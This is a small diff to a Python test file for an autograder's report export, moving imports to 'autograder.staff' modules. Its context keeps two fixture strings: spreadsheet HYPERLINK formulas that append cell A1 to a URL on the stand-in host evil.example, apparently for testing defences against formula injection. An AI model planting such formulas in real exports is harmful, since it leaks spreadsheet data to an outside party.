@@ -5,9 +5,9 @@ from pathlib import Path
 
 import pytest
 
-from autograder import reports
-from autograder.batch import Row
-from autograder.export import Entry, Submitter
+from autograder.staff import reports
+from autograder.staff.reports import Row
+from autograder.staff.export import Entry, Submitter
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open me")'
 FILE_FORMULA = '=HYPERLINK("evil.example?leak="&A1,"open me")'  # a file name holds no slash
